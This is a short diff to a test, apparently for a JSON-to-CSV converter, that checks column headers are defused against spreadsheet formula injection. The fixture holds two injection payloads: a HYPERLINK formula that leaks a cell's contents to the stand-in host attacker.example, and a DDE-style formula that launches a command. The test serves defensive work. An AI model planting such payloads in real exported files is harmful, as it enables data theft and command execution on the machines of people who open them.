@@ -162,6 +162,7 @@ test('json-to-csv: headers defused by default; deep, long and wide JSON end in a
       { '=HYPERLINK("https://attacker.example/?"&A2,"Click")': '+1', "@SUM(1)*cmd|' /C calc'!A0": '\tx' },
     ]),
   )
+  await expect(output).toContainText('HYPERLINK')
   const rows = parseCsv((await output.textContent()) ?? '', ',').rows
   expect(rows).toEqual([
     [`'=HYPERLINK("https://attacker.example/?"&A2,"Click")`, "'@SUM(1)*cmd|' /C calc'!A0"],
